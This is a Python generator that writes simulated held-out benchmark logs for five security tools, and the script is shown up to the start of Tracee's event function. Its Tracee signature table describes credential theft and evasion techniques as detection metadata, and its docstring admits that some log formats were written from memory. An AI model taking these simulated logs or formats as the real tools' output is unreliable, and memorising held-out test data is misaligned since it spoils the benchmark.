#!/usr/bin/env python3
# ruff: noqa: E501  (the log lines it writes are data, one per call)
"""Writes the held-out logs of round 251 (clair, tracee, kubescape, gitleaks, nuclei) into
bench/heldout/, the same way and under the same label rules as generate.py (bench/README.md,
"heldout.py"): each program's log is simulated from its format strings over a seeded run, and
every line that starts an event is labelled with the format string that wrote it as it is
written. Distinct calls of one process never share a timestamp at the log's resolution (round
53's Clock, kept per process and per file). Five security scanners and sensors of one platform
team, 06:00 to 12:00 on 2024-06-07. None of the five was in the set (grype, trivy, falco,
kyverno, opa, osquery and wazuh are).

- Clair v4.7.4 in combo mode behind Quay (`clair-app-6f9d8b7c5-2xqpl.log`,
  `clair-app-6f9d8b7c5-v7r4m.log`, the replicas of the rolled-out ReplicaSet,
  `clair-app-7c4f9d6b8-k2wzn.previous.log` and `.log`, `clair-app-7c4f9d6b8-q8tdx.log`: `kubectl
  logs` of each container; zerolog JSON through quay/zlog, the context's baggage first, then the
  event's fields, the time in seconds and the message last: `{"level":"info","component":
  "libindex/Libindex.Index","manifest":"sha256:...","time":"2024-06-07T06:03:11Z","message":"index
  request start"}`). Each replica runs every updater every 30 minutes (`running updaters`, per
  updater `starting update`, `vulnerability database unchanged` when the fingerprint matched,
  `finished update`, then `GC started` / `GC completed`); Quay's security worker posts the
  manifest of every push (`index request start`, `starting scan`, `manifest to be scanned`,
  `layers fetch start` / `success` / `done`, `layers scan start` / `done`, `index request done`,
  the transport's `handled HTTP request`), re-posts manifests already indexed (`manifest already
  scanned`), fetches the vulnerability reports and polls the index state. OSV's feed fails
  07:30-08:40 (`error while running updater`); Quay's S3 storage answers 503 09:10-09:22 (`layers
  fetch failure`, `error during scan`); the PostgreSQL failover 10:40:05-10:42:40 fails an updater
  run (`error while performing GC`) and the index requests in flight (`failed persisting index
  report`) while a config change is rolled out: the first new container fails its start (`fatal
  error`, after `ready`, which main logs before the services are up), the second start succeeds
  (`starting`, `launching introspection server`, `launching http transport`, `registered signal
  handler`, `ready`, `registered configured scanners`, `starting initial updates`, `starting
  background updates`); the old pods are killed by SIGTERM, which Clair's handler (os.Interrupt
  only) does not log.
- Tracee v0.20.0 (`tracee-4vx8k.log`, `tracee-9hq2m.log`, `tracee-t7zcn.previous.log`,
  `tracee-t7zcn.log`: the DaemonSet's pods on three nodes under `kubectl logs --timestamps`): the
  events it detects go to stdout as JSON (`--output json`, the trace.Event with its `metadata` and
  the `triggeredBy` argument, no message key: `{"timestamp":1717740123456789012,...,"eventName":
  "dynamic_code_loading",...}`) and its own log to stderr as zap's production JSON (`{"level":
  "warn","ts":1717740123.4567893,"msg":"Lost 812 events"}`). Detections: service-account token
  reads of pods that talk to the API server, JVM and Node JIT pages turned executable, CI builds
  on k8s-node-03 dropping executables and hidden files, a monitoring agent reading
  /proc/sched_debug, a cryptominer dropped through a vulnerable PHP app in `dev-sandbox` at
  09:42 (a web server spawning a shell, an LD_PRELOAD, a fileless execution, anti-debugging and
  calls to the API server) and proc mem reads. k8s-node-03's builds overflow the perf buffers
  (`Lost %d events`, `Lost %d control plane signals`, the eBPF side's aggregated logs `Failed to
  add or update a map element` and `Failed to tail call`); its pod is OOMKilled at 10:15 and its
  new container, on a node image without /boot/config, warns `KConfig: could not check enabled
  kconfig features` and `KConfig: assuming kconfig values, might have unexpected behavior`; the
  container enricher fails for short-lived containers (`Error processing event`).
- Kubescape v3.0.11 in-cluster scanner (`kubescape-5d8f7b9c4-7xk2p.previous.log` until it is
  OOMKilled at 10:12 by a full scan, `kubescape-5d8f7b9c4-7xk2p.log` after: `kubectl logs` of
  the `ksserver` container, go-logger's zap JSON with RFC 3339 seconds, `{"level":"info","ts":
  "2024-06-07T06:04:31Z","msg":"requesting scan","scanID":"...","api":"v1/scan"}`). Argo CD's
  PreSync hook posts a framework scan of the synced application's namespace (`requesting scan`,
  `triggering scan`, `scan triggered`, then the scan's own progress: `Kubescape scanner
  initializing...`, `Initialized scanner`, `Loading policies...`, `Loaded policies`, `Loading
  exceptions...`, `Loaded exceptions`, `Loading account configurations...`, `Loaded account
  configurations`, `Accessing Kubernetes objects...`, `Accessed Kubernetes objects`, `Scanning` /
  `Done scanning` with the cluster, and the handler's `done scanning`) and polls its results
  every 10 s (`requesting results`, `scan in process`, at the end `scan result found` and
  `deleting results`); the operator's hourly full scan adds the host scanner (`Requesting Host
  scanner data`, `Requested Host scanner data`, and `failed to collect host scanner resources`
  while k8s-node-05's node-agent is down 07:50-08:35). The egress proxy fails 08:20-08:45, so the
  backend's exceptions and account configuration cannot be loaded (`failed to load exceptions`,
  and a warning whose message is the request's error itself: `Get "%s": dial tcp: lookup %s on
  %s: server misbehaving`); the API server's etcd is slow 09:48-09:58 (`failed to pull resource`,
  and `scanning failed` when nothing could be pulled, the hook's last poll then `scan result not
  found`).
- Gitleaks v8.18.4 (`scan01-journal.log`: the push-scan hook on the Git server's mirror host,
  `scan02-journal.log`: the nightly audit of every mirror, both `journalctl -o short-iso` of
  units with `SyslogIdentifier=gitleaks` and `NO_COLOR=1`, so zerolog's console writer prints
  `2024-06-07T09:14:03+00:00 scan01 gitleaks[1184]: 9:14AM INF 3 commits scanned.`, its own
  Kitchen time inside; one journal entry per line, the `-v` findings on stdout over twelve
  entries, the last one empty). Per push `gitleaks detect --source <mirror> --log-opts=<old>..<new>
  --redact -v --no-banner --config /etc/gitleaks/gitleaks.toml`: `%d commits scanned.`, `scan
  completed in %s`, `no leaks found` or the findings (`Finding:     %s`, `Secret:`, `RuleID:`...)
  and `leaks found: %d`; force-pushes whose old tip the mirror no longer has (`[git] fatal: bad
  object %s`, `stderr is not empty` as the empty message's `error` field, `partial scan completed
  in %s`, `no leaks found in partial scan`), a push range naming a branch the repository does not
  have (git's three lines: `[git] fatal: ambiguous argument '%s': unknown revision or path not in
  the working tree.`, `[git] Use '--' to separate paths from revisions, like this:`, `[git] 'git
  <command> [<revision>...] -- [<file>...]'`), vendored-tree pushes (git's rename-limit warnings
  at WRN), the admins' rescans without `--no-banner` (the banner, one write over seven entries),
  and a broken allowlist in the shared config 10:20-10:34 (`unable to load gitleaks config, err:
  %s` at FTL). The audit (06:00-07:40) scans each mirror's whole history.
- Nuclei v3.2.8 with nuclei-templates v9.8.8 (`nuclei-external-<n>-<id>.log` hourly at :05 over 38
  public URLs, `nuclei-internal-<n>-<id>.log` every two hours at :35 over 120 internal host:port
  inputs with the team's unsigned templates; `kubectl logs --timestamps` of each CronJob pod, `-nc
  -stats -si 20 -severity low,medium,high,critical`): the banner (two writes), `Found %d
  template[s] loaded with deprecated paths, update before v3 for continued support.`, `Current
  nuclei version: %v %v`, `Current nuclei-templates version: %v %v`, `Scan results upload to cloud
  is disabled.`, `New templates added in latest release: %d`, `Templates loaded for current scan:
  %d`, `Executing %d signed templates from %s`, `Executing %d unsigned templates. Use with
  caution.`, `Targets loaded for current scan: %d`, `Running httpx on input host`, `Found %d URL
  from httpx`, `Templates clustered: %d (Reduced %d Requests)`, `Using Interactsh Server: %s`, the
  stats line every 20 s, the results on stdout in four shapes (`[%s] [%s] [%s] %s`, with a
  matcher name `[%s:%s] ...`, and either with extracted values `... [%s]`), `Skipped %s from
  target list as found unresponsive %d times` and, when nothing matched, `No results found.
  Better luck next time!`.

Label notes. The heads are context: Clair's `level`, context fields and `time`, Tracee's zap
`level` and `ts`, Kubescape's `level` and `ts`, kubectl's time, the journal's time, host, ident
and pid, zerolog's Kitchen time and level; a message is the label, its fields attributes. A
Tracee event record has no message: it is labelled by its event definition (`eventName`, each
signature a definition of its own in Tracee's source). Nuclei's result line is one builder
whose pieces are present or not, so each shape is a label (round 97's Dante rule); the template
id, protocol, severity and target are values. A value that is an error contributes its format
(git's lines after `[git] `, Kubescape's request error as a message). Lines printed without a
head are events of their own (Nuclei's banner writes); the later lines of one write have no row
(the banner's lines, Gitleaks' finding lines after `Finding:`).

Checked against copies of the sources: claircore's updates manager (`running updaters`,
`starting update`, `finished update`, `vulnerability database unchanged`, `GC started`, `GC
completed`, `error while running updater`, `error while performing GC`), libindex's `index
request start` / `done` and `registered configured scanners`, the controller's `starting scan`,
`manifest to be scanned`, `manifest already scanned`, `error during scan`, `failed persisting
index report`, `layers fetch start` / `success` / `failure`, `layers scan start` / `done`, and
Clair's main (`starting`, `launching introspection server`, `launching http transport`,
`registered signal handler`, `ready`, `fatal error`); Tracee's logger (zap production JSON), `Lost
%d events`, `Lost %d control plane signals`, `Error processing event` and the BPF log table;
go-logger's zap encoder and Kubescape's HTTP handler (`requesting scan`, `triggering scan`, `scan
triggered`, `done scanning`, `scanning failed`, `requesting results`, `scan in process`, `scan
result found`, `scan result not found`, `deleting results`), the scan's `Kubescape scanner initializing...`, `Initialized
scanner`, the policy handler's Loading/Loaded lines and `failed to load exceptions`, the resource
handler's `Accessing` / `Accessed Kubernetes objects`, host scanner and `failed to pull resource`
lines; Gitleaks' summary lines (`scan completed in %s`, `leaks found: %d`, `no leaks found`, the
partial-scan lines), the config fatal, the banner, and the `[git] ` / `stderr is not empty`
output against issues; Nuclei's runner header lines, the clustering line, `No results found.
Better luck next time!` and the banner against a copy of the runner and issues.

Least sure (written from the helper's knowledge): Clair's `layers fetch done` in the zlog
release, the transport's `handled HTTP request` field names, the updater names and the error
texts; Tracee's signature metadata (descriptions, IDs, MITRE ids), the trace.Event field set of
v0.20, the BPF log level and file names, the KConfig and enricher error texts; Kubescape's
`Scanning` / `Done scanning` with a `Cluster` field and the backend URLs; Gitleaks' finding
layout under `--redact`, the TOML error text and the rename-limit lines' level; Nuclei's
`Executing %d unsigned templates. Use with caution.` wording in 3.2, the httpx lines, the template
ids and their extracted values.
"""

from __future__ import annotations

import json
import random
import sys
from datetime import datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from generate import Log, generate, hexid, uuid4
from generate_round55 import poisson
from generate_round97 import Files, sec
from generate_round147 import T0, T_END, at, in_any

SEC = 1_000_000


def jd(d: dict) -> str:
    """Go's encoding/json (and zap's, zerolog's) compact output."""
    return json.dumps(d, separators=(",", ":"), ensure_ascii=False)


def kts(r: random.Random, t: datetime) -> str:
    """kubectl's --timestamps prefix: RFC 3339 with nanoseconds, trailing zeros cut."""
    nanos = f"{t.microsecond:06d}{r.randint(0, 999):03d}".rstrip("0")
    return f"{t:%Y-%m-%dT%H:%M:%S}" + (f".{nanos}" if nanos else "") + "Z"


def iso_s(t: datetime) -> str:
    return f"{t:%Y-%m-%dT%H:%M:%S}Z"


def epoch(t: datetime) -> float:
    return t.timestamp()


def ip(r: random.Random, a: int, b: int) -> str:
    return f"10.{a}.{b}.{r.randint(2, 250)}"


# ------------------------------------------------------------------------------------ clair

CL_VERSION = "v4.7.4"
# updater, chance that its feed changed since the last run
CL_UPDATERS = [
    ("alpine-main-v3.18-updater", 0.04),
    ("alpine-main-v3.19-updater", 0.08),
    ("alpine-community-v3.19-updater", 0.08),
    ("alpine-main-v3.20-updater", 0.12),
    ("aws-linux2-updater", 0.10),
    ("aws-linux2023-updater", 0.15),
    ("debian/updater", 0.35),
    ("oracle-2024-updater", 0.20),
    ("photon-updater-5.0", 0.06),
    ("RHEL8-rhel-8-including-unpatched", 0.30),
    ("RHEL9-rhel-9-including-unpatched", 0.30),
    ("suse-updater-suse.linux.enterprise.server.15", 0.15),
    ("ubuntu/updater/focal", 0.25),
    ("ubuntu/updater/jammy", 0.30),
    ("ubuntu/updater/noble", 0.30),
    ("osv", 0.45),
    ("clair.cvss", 0.25),
]
CL_REPOS = [
    "shop/cart",
    "shop/checkout",
    "shop/storefront",
    "payments/ledger",
    "payments/gateway",
    "data/etl-runner",
    "platform/base-python",
    "platform/nginx",
    "web/admin-ui",
    "ml/feature-store",
]
CL_DB = "failed to connect to `host=clair-postgres.quay.svc user=clair database=clair`: dial error (dial tcp 10.96.41.7:5432: connect: connection refused)"


def clair(r: random.Random) -> list[Log]:
    """Two Clair replicas, a config roll-out during a DB failover (see the module docstring)."""
    fs = Files()
    A, B = "clair-app-6f9d8b7c5-2xqpl", "clair-app-6f9d8b7c5-v7r4m"
    C, D = "clair-app-7c4f9d6b8-k2wzn", "clair-app-7c4f9d6b8-q8tdx"
    db_down = (at(10, 40, 5), at(10, 42, 40))
    osv_down = (at(7, 30), at(8, 40))
    s3_down = (at(9, 10), at(9, 22))
    # container -> (file, alive from, alive until)
    life = {
        A: (f"{A}.log", T0, at(10, 44, 12)),
        B: (f"{B}.log", T0, at(10, 46, 40)),
        C + "#1": (f"{C}.previous.log", at(10, 41, 52), at(10, 41, 53)),
        C: (f"{C}.log", at(10, 42, 48), T_END),
        D: (f"{D}.log", at(10, 44, 20), T_END),
    }

    def Z(
        c: str,
        t: datetime,
        level: str,
        ctx: list[tuple[str, object]],
        msg: str,
        fields: list[tuple[str, object]] | None = None,
    ) -> datetime:
        f = life[c][0]

        def text(x: datetime) -> list[str]:
            d: dict = {"level": level}
            d.update(ctx)
            d.update(fields or [])
            d["time"] = iso_s(x)
            d["message"] = msg
            return [jd(d)]

        return fs.add(f, t, msg, text, c, SEC)

    def alive(t: datetime) -> list[str]:
        return [c for c in (A, B, C, D) if life[c][1] <= t < life[c][2]]

    main = [("component", "main")]

    def start(c: str, t: datetime, ok: bool) -> datetime:
        t = Z(c, t, "info", main, "starting", [("version", CL_VERSION)])
        Z(c, t + sec(0.002), "info", main, "launching introspection server")
        Z(c, t + sec(0.003), "info", main, "launching http transport")
        Z(c, t + sec(0.004), "info", main, "registered signal handler")
        t = Z(c, t + sec(0.005), "info", main, "ready", [("version", CL_VERSION)])
        if not ok:
            err = f"service initialization failed: failed to initialize indexer: failed to create ConnPool: {CL_DB}"
            return Z(
                c, t + sec(r.uniform(4.9, 5.2)), "error", main, "fatal error", [("error", err)]
            )
        t = Z(
            c,
            t + sec(r.uniform(0.6, 1.4)),
            "info",
            [("component", "libindex/New")],
            "registered configured scanners",
        )
        return Z(
            c,
            t + sec(r.uniform(0.2, 0.6)),
            "info",
            [("component", "libvuln/updates/Manager.Start")],
            "starting initial updates",
        )

    def update_run(c: str, t: datetime, initial: bool = False) -> datetime:
        run = [("component", "libvuln/updates/Manager.Run")]
        t = Z(
            c, t, "info", run, "running updaters", [("total", len(CL_UPDATERS)), ("batchSize", 10)]
        )
        errs: list[str] = []
        order = list(CL_UPDATERS)
        r.shuffle(order)
        ends = []
        slot = [t + sec(r.uniform(0.01, 0.2)) for _ in range(10)]
        for name, pchg in order:
            i = min(range(10), key=lambda k: slot[k])
            t0 = slot[i]
            dctx = [("component", "libvuln/updates/Manager.driveUpdater"), ("updater", name)]
            t1 = Z(c, t0, "info", dctx, "starting update")
            failed = ""
            if name == "osv" and in_any(t1, [osv_down]):
                failed = "osv: unexpected response: 503 Service Unavailable"
                t1 += sec(r.uniform(0.4, 2.0))
            elif in_any(t1, [db_down]):
                failed = f"{name}: {CL_DB}"
                t1 += sec(r.uniform(0.01, 0.3))
            elif r.random() < pchg:
                t1 += sec(r.uniform(6, 45))
            else:
                t1 = Z(
                    c,
                    t1 + sec(r.uniform(0.3, 4.0)),
                    "info",
                    dctx,
                    "vulnerability database unchanged",
                )
            t1 = Z(c, t1 + sec(0.001), "info", dctx, "finished update")
            if failed:
                errs.append(failed)
            slot[i] = t1 + sec(0.01)
            ends.append(t1)
        t = max(ends) + sec(0.05)
        t = Z(c, t, "info", run, "GC started", [("retention", 10)])
        if in_any(t, [db_down]):
            t = Z(c, t + sec(0.02), "error", run, "error while performing GC", [("error", CL_DB)])
        else:
            t = Z(
                c,
                t + sec(r.uniform(0.5, 6)),
                "info",
                run,
                "GC completed",
                [("remaining_ops", r.randint(40, 120)), ("retention", 10)],
            )
        if errs:
            t = Z(
                c,
                t + sec(0.01),
                "error",
                [("component", "libvuln/updates/Manager.Start")],
                "error while running updater",
                [("error", "\n".join(errs))],
            )
        if initial:
            t = Z(
                c,
                t + sec(0.001),
                "info",
                [("component", "libvuln/updates/Manager.Start")],
                "starting background updates",
                [("interval", "30m0s")],
            )
        return t

    def http(c: str, t: datetime, method: str, uri: str, status: int, ms: float) -> datetime:
        return Z(
            c,
            t,
            "info",
            [("component", "httptransport/New")],
            "handled HTTP request",
            [
                (
                    "remote_addr",
                    f"10.128.{r.choice([2, 4, 6])}.{r.randint(10, 60)}:{r.randint(32768, 60999)}",
                ),
                ("method", method),
                ("request_uri", uri),
                ("status", status),
                ("duration", round(ms + r.uniform(0.001, 0.999), 3)),
            ],
        )

    def index(c: str, t: datetime, digest: str, new: bool) -> datetime:
        lib = [("component", "libindex/Libindex.Index"), ("manifest", digest)]
        ctl = [("component", "indexer/controller/Controller.Index"), ("manifest", digest)]
        t0 = t
        t = Z(c, t, "info", lib, "index request start")
        t = Z(c, t + sec(0.003), "info", ctl, "starting scan")
        if in_any(t, [db_down]):
            err = f"failed to determine if manifest has been scanned: {CL_DB}"
            t = Z(
                c,
                t + sec(0.01),
                "error",
                [*ctl, ("state", "CheckManifest")],
                "error during scan",
                [("error", err)],
            )
            t = Z(
                c,
                t + sec(0.01),
                "info",
                [*ctl, ("state", "IndexError")],
                "failed persisting index report",
                [("error", f"failed to upsert index report: {CL_DB}")],
            )
            t = Z(c, t + sec(0.001), "info", lib, "index request done")
            return http(
                c,
                t + sec(0.001),
                "POST",
                "/indexer/api/v1/index_report",
                500,
                (t - t0).total_seconds() * 1000,
            )
        if not new:
            t = Z(
                c,
                t + sec(0.004),
                "info",
                [*ctl, ("state", "CheckManifest")],
                "manifest already scanned",
            )
            t = Z(c, t + sec(0.003), "info", lib, "index request done")
            return http(
                c,
                t + sec(0.001),
                "POST",
                "/indexer/api/v1/index_report",
                200,
                (t - t0).total_seconds() * 1000 + 2,
            )
        t = Z(
            c, t + sec(0.006), "info", [*ctl, ("state", "CheckManifest")], "manifest to be scanned"
        )
        fl = [*ctl, ("state", "FetchLayers")]
        t = Z(c, t + sec(0.01), "info", fl, "layers fetch start")
        if in_any(t, [s3_down]):
            t += sec(r.uniform(10, 30))
            reason = f'fetcher: encountered errors: unexpected status code: 503 Service Unavailable (body starts: "<?xml version=\\"1.0\\" encoding=\\"UTF-8\\"?><Error><Code>SlowDown</Code>") (url: https://quay-storage.s3.eu-west-1.amazonaws.com/datastorage/registry/sha256/{hexid(r, 2)}/{hexid(r, 64)})'
            t = Z(c, t, "warn", fl, "layers fetch failure", [("reason", reason)])
            t = Z(c, t + sec(0.001), "info", fl, "layers fetch done")
            t = Z(
                c,
                t + sec(0.002),
                "error",
                fl,
                "error during scan",
                [("error", "failed to fetch layers: " + reason)],
            )
            t = Z(c, t + sec(0.01), "info", lib, "index request done")
            return http(
                c,
                t + sec(0.001),
                "POST",
                "/indexer/api/v1/index_report",
                201,
                (t - t0).total_seconds() * 1000,
            )
        t = Z(c, t + sec(r.uniform(1.5, 20)), "info", fl, "layers fetch success")
        t = Z(c, t + sec(0.001), "info", fl, "layers fetch done")
        sl = [*ctl, ("state", "ScanLayers")]
        t = Z(c, t + sec(0.002), "info", sl, "layers scan start")
        t = Z(c, t + sec(r.uniform(0.8, 12)), "info", sl, "layers scan done")
        t = Z(c, t + sec(r.uniform(0.05, 0.6)), "info", lib, "index request done")
        return http(
            c,
            t + sec(0.001),
            "POST",
            "/indexer/api/v1/index_report",
            201,
            (t - t0).total_seconds() * 1000,
        )

    # starts of the new ReplicaSet
    start(C + "#1", life[C + "#1"][1], ok=False)
    for c in (C, D):
        t = start(c, life[c][1], ok=True)
        update_run(c, t + sec(0.3), initial=True)
    # background updates every 30 minutes
    for c, first in (
        (A, at(6, 11, 10)),
        (B, at(6, 27, 9)),
        (C, at(11, 14, 2)),
        (D, at(11, 15, 30)),
    ):
        t = first
        while t < life[c][2]:
            if t >= life[c][1]:
                update_run(c, t)
            t += timedelta(minutes=30) + sec(r.uniform(0, 0.5))
    # pushes: the manifest indexed once, its report fetched
    indexed: list[str] = []
    for t in poisson(r, T0 + sec(40), T_END - sec(120), 330):
        cs = alive(t)
        if not cs:
            continue
        digest = "sha256:" + hexid(r, 64)
        t2 = index(r.choice(cs), t, digest, new=True)
        indexed.append(digest)
        cs = alive(t2)
        if cs and not in_any(t2, [s3_down, db_down]):
            http(
                r.choice(cs),
                t2 + sec(r.uniform(1, 9)),
                "GET",
                f"/matcher/api/v1/vulnerability_report/{digest}",
                200,
                r.uniform(40, 900),
            )
    for _ in range(40):
        indexed.append("sha256:" + hexid(r, 64))
    # the security worker's re-posts of indexed manifests, its report fetches and state polls
    for t in poisson(r, T0 + sec(10), T_END - sec(30), 290):
        cs = alive(t)
        if cs:
            index(r.choice(cs), t, r.choice(indexed), new=False)
    for t in poisson(r, T0 + sec(20), T_END - sec(30), 420):
        cs = alive(t)
        if cs:
            http(
                r.choice(cs),
                t,
                "GET",
                f"/matcher/api/v1/vulnerability_report/{r.choice(indexed)}",
                200,
                r.uniform(30, 700),
            )
    t = T0 + sec(r.uniform(5, 60))
    while t < T_END:
        cs = alive(t)
        if cs:
            http(r.choice(cs), t, "GET", "/indexer/api/v1/index_state", 200, r.uniform(0.3, 2.5))
        t += sec(300 + r.uniform(-2, 2))
    return fs.logs(T0)


# ----------------------------------------------------------------------------------- tracee

TR_SIGS = {
    "k8s_service_account_token": (
        "TRC-108",
        "K8s Service Account Token Use Detected",
        "The Kubernetes service account token file was read on your container. This token is used to communicate with the Kubernetes API Server. Adversaries may try to communicate with the API Server to steal information and/or credentials, or even run more containers and laterally expand their grip on the systems.",
        "credential-access",
        "Exploitation for Privilege Escalation",
        0,
        "T1068",
        "attack-pattern--b21c3b2d-02e6-45b1-980b-e69051040839",
        "6011",
        ("security_file_open", 731),
    ),
    "dynamic_code_loading": (
        "TRC-104",
        "Dynamic Code Loading",
        "Possible dynamic code loading was detected as the binary's memory is both writable and executable. Writing to an executable allocated memory region could be a technique used by adversaries to run code undetected and without dropping executables.",
        "defense-evasion",
        "Software Packing",
        2,
        "T1027.002",
        "attack-pattern--deb98323-e13f-4b0c-8d94-175379069062",
        "6008",
        ("mem_prot_alert", 2006),
    ),
    "dropped_executable": (
        "TRC-1022",
        "New executable dropped",
        "An Executable file was dropped in the system during runtime. Container images are usually built with all binaries needed inside. A dropped binary may indicate that an adversary infiltrated your container.",
        "defense-evasion",
        "Masquerading",
        2,
        "T1036",
        "attack-pattern--42e8de7b-37b2-4258-905a-6897815e58e0",
        "6024",
        ("magic_write", 1017),
    ),
    "hidden_file_created": (
        "TRC-1015",
        "Hidden executable creation detected",
        "A hidden executable (ELF file) was created on disk. This activity could be legitimate; however, it could indicate that an adversary is trying to avoid detection by hiding their programs.",
        "defense-evasion",
        "Hidden Files and Directories",
        2,
        "T1564.001",
        "attack-pattern--ec8fc7e2-b356-455c-8db5-2e37be158e7d",
        "6015",
        ("magic_write", 1017),
    ),
    "sched_debug_recon": (
        "TRC-1029",
        "sched_debug CPU file was read",
        "The sched_debug file was read. This file contains information about your CPU and processes. Adversaries may read this file in order to gather that information for their use.",
        "discovery",
        "Container and Resource Discovery",
        1,
        "T1613",
        "attack-pattern--0470e792-32f8-46b0-a351-652bc35e9336",
        "6025",
        ("security_file_open", 731),
    ),
    "illegitimate_shell": (
        "TRC-1016",
        "Web server spawned a shell",
        "A web-server program on your server spawned a shell program. Shell is the linux command-line program, web servers usually don't run shell programs, so this alert might indicate an adversary is exploiting a web server program to gain command execution on the server.",
        "initial-access",
        "Exploit Public-Facing Application",
        2,
        "T1190",
        "attack-pattern--3f886f2a-874f-4333-b794-aa6075009b1c",
        "6016",
        ("security_bprm_check", 720),
    ),
    "ld_preload": (
        "TRC-107",
        "LD_PRELOAD code injection detected",
        "LD_PRELOAD usage was detected. LD_PRELOAD lets you load your library before any other library, allowing you to hook functions in your process. Adversaries may use this technique to change your applications' behavior or load their own programs.",
        "persistence",
        "Hijack Execution Flow",
        2,
        "T1574",
        "attack-pattern--aedfca76-3b30-4866-b2aa-0f1d7fd1e4b6",
        "6007",
        ("sched_process_exec", 1002),
    ),
    "fileless_execution": (
        "TRC-105",
        "Fileless execution detected",
        "Fileless execution was detected. Executing a process from memory instead from a file in the filesystem may indicate that an adversary is trying to avoid execution detection.",
        "defense-evasion",
        "Reflective Code Loading",
        3,
        "T1620",
        "attack-pattern--4933e63b-9b77-476e-ab29-761bc5b7d15a",
        "6012",
        ("sched_process_exec", 1002),
    ),
    "anti_debugging": (
        "TRC-102",
        "Anti-Debugging detected",
        "A process used anti-debugging techniques to block a debugger. Malware use anti-debugging to stay invisible and inhibit analysis of their behavior.",
        "defense-evasion",
        "Debugger Evasion",
        1,
        "T1622",
        "attack-pattern--e4dc8c01-417f-458d-9ee0-bb0617c1b391",
        "6002",
        ("ptrace", 101),
    ),
    "k8s_api_connection": (
        "TRC-1013",
        "Kubernetes API server connection detected",
        "A connection to the kubernetes API server was detected. The K8S API server is the brain of your K8S cluster, adversaries may try and communicate with the K8S API server to gather information/credentials, or even run more containers and laterally expand their grip on your systems.",
        "execution",
        "Container Administration Command",
        1,
        "T1609",
        "attack-pattern--7b50a1d3-4ca7-45d1-989d-a6503f04bfe1",
        "6013",
        ("security_socket_connect", 744),
    ),
    "proc_mem_access": (
        "TRC-1023",
        "Process memory access detected",
        "Process memory access detected. Adversaries may access other processes memory to steal credentials and secrets.",
        "credential-access",
        "Proc Filesystem",
        3,
        "T1003.007",
        "attack-pattern--3120b9fa-23b8-4500-ae73-09494f607b7d",
        "6021",
        ("security_file_open", 731),
    ),
}
# node -> workloads: (pod, namespace, container, image, comm, path, uid)
TR_PODS = {
    "k8s-node-01": [
        (
            "orders-7d9f8c6b5-x2kq9",
            "shop",
            "orders",
            "registry.corp.example/shop/orders:2.14.1",
            "java",
            "/opt/java/openjdk/bin/java",
            1000,
        ),
        (
            "catalog-5c8d7f9b6-m4tz7",
            "shop",
            "catalog",
            "registry.corp.example/shop/catalog:1.9.0",
            "node",
            "/usr/local/bin/node",
            1000,
        ),
        (
            "argocd-repo-server-6b7c9d8f5-qwk2l",
            "argocd",
            "argocd-repo-server",
            "quay.io/argoproj/argocd:v2.11.2",
            "argocd-repo-ser",
            "/usr/local/bin/argocd-repo-server",
            999,
        ),
        (
            "datadog-agent-7xk4p",
            "monitoring",
            "agent",
            "gcr.io/datadoghq/agent:7.54.0",
            "process-agent",
            "/opt/datadog-agent/embedded/bin/process-agent",
            0,
        ),
    ],
    "k8s-node-02": [
        (
            "payments-api-6f7d8c9b4-p9zw2",
            "payments",
            "api",
            "registry.corp.example/payments/api:3.2.0",
            "java",
            "/opt/java/openjdk/bin/java",
            1000,
        ),
        (
            "search-indexer-84b7c6d9f-2lq8v",
            "shop",
            "indexer",
            "registry.corp.example/shop/search-indexer:0.22.3",
            "java",
            "/opt/java/openjdk/bin/java",
            1000,
        ),
        (
            "cert-manager-7f8d9c6b5-k8r2m",
            "cert-manager",
            "cert-manager-controller",
            "quay.io/jetstack/cert-manager-controller:v1.14.5",
            "controller",
            "/app/cmd/controller/controller",
            1000,
        ),
        (
            "legacy-cms-5b9c8d7f6-w7x4j",
            "dev-sandbox",
            "php",
            "registry.corp.example/dev/legacy-cms:0.3.1",
            "apache2",
            "/usr/sbin/apache2",
            33,
        ),
        (
            "datadog-agent-k9m2x",
            "monitoring",
            "agent",
            "gcr.io/datadoghq/agent:7.54.0",
            "process-agent",
            "/opt/datadog-agent/embedded/bin/process-agent",
            0,
        ),
    ],
    "k8s-node-03": [
        (
            "runner-xk2p9-project-412-concurrent-0-8f3kq",
            "gitlab-runner",
            "build",
            "docker.io/library/golang:1.22.4",
            "go",
            "/usr/local/go/bin/go",
            0,
        ),
        (
            "runner-xk2p9-project-377-concurrent-1-2m7vz",
            "gitlab-runner",
            "build",
            "docker.io/library/node:20.14-bookworm",
            "node",
            "/usr/local/bin/node",
            1000,
        ),
        (
            "checkout-8c7d6f5b9-t2xq4",
            "shop",
            "checkout",
            "registry.corp.example/shop/checkout:4.1.7",
            "node",
            "/usr/local/bin/node",
            1000,
        ),
        (
            "datadog-agent-p4w7n",
            "monitoring",
            "agent",
            "gcr.io/datadoghq/agent:7.54.0",
            "process-agent",
            "/opt/datadog-agent/embedded/bin/process-agent",
            0,
        ),
    ],
}


def tracee(r: random.Random) -> list[Log]:
    """Tracee on three nodes (see the module docstring)."""
    fs = Files()
    pods = {
        "k8s-node-01": "tracee-4vx8k",
        "k8s-node-02": "tracee-9hq2m",
        "k8s-node-03": "tracee-t7zcn",
    }
    oom = at(10, 15, 7)
    restart = at(10, 15, 38)
    builds = []
    t = at(6, 9)
    while t < T_END - sec(600):
        builds.append((t, t + sec(r.uniform(240, 480))))
        t += sec(r.uniform(900, 1500))
    incident = at(9, 42, 11)
    cgroups: dict[str, int] = {}
    cids: dict[str, str] = {}
    podids: dict[str, str] = {}
    digests: dict[str, str] = {}

    def fname(node: str, t: datetime) -> tuple[str, object]:
        pod = pods[node]
        if node == "k8s-node-03":
            if t < oom:
                return f"{pod}.previous.log", (pod, 1)
            return f"{pod}.log", (pod, 2)
        return f"{pod}.log", (pod, 1)

    def emit(node: str, t: datetime, label: str, text: str) -> datetime | None:
        if node == "k8s-node-03" and oom <= t < restart:
            return None
        f, proc = fname(node, t)
        return fs.add(f, t, label, lambda x: [f"{kts(r, x)} {text}"], proc, 1)

    def zlog(
        node: str,
        t: datetime,
        level: str,
        msg: str,
        fields: list[tuple[str, object]] | None = None,
        label: str | None = None,
    ) -> None:
        d: dict = {
            "level": level,
            "ts": round(epoch(t) + r.uniform(-0.0004, -0.00005), 7),
            "msg": msg,
        }
        d.update(fields or [])
        emit(node, t, label or msg, jd(d))

    def event(
        node: str,
        t: datetime,
        sig: str,
        wl: tuple,
        args: list[dict],
        comm: str | None = None,
        path: str | None = None,
    ) -> None:
